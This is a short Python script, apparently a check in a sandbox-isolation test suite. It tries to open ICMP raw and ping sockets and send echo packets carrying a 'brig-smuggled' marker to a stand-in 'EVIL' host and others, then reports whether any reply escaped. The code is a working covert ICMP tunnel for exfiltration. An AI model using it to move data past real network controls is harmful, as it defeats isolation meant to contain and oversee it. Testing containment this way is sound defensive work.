# SPDX-License-Identifier: Apache-2.0
# Trick: echo requests with data, by raw and by ping sockets
# Gain: a tunnel that needs no port
from trick import *

done = 0
for family, proto, kind in ((socket.AF_INET, 1, 8), (socket.AF_INET6, 58, 128)):
    for how in (socket.SOCK_RAW, socket.SOCK_DGRAM):
        try:
            s = socket.socket(family, how, proto)
        except OSError as e:
            hear(repr(e).encode())
            continue
        s.settimeout(0.1)
        for addr in ((EVIL, API, "11.0.0.1", "10.0.0.5", HOST) if family == socket.AF_INET else (EVIL6, API6, HOST6)):
            for what in (kind, 13, 5, 0):
                head = struct.pack("!BBHHH", what, 0, 0, 7, 1) + b"brig-smuggled"
                try:
                    s.sendto(head[:2] + struct.pack("!H", checksum(head)) + head[4:], (addr, 0))
                    done += 1
                except OSError as e:
                    hear(repr(e).encode())
        try:
            while True:
                out, whose = s.recvfrom(2000)
                if whose[0] in (EVIL, API, EVIL6, API6) and b"brig-smuggled" in out:
                    escaped(f"{whose[0]} answered")
        except OSError:
            pass
stopped(f"{done} were sent, and none arrived")
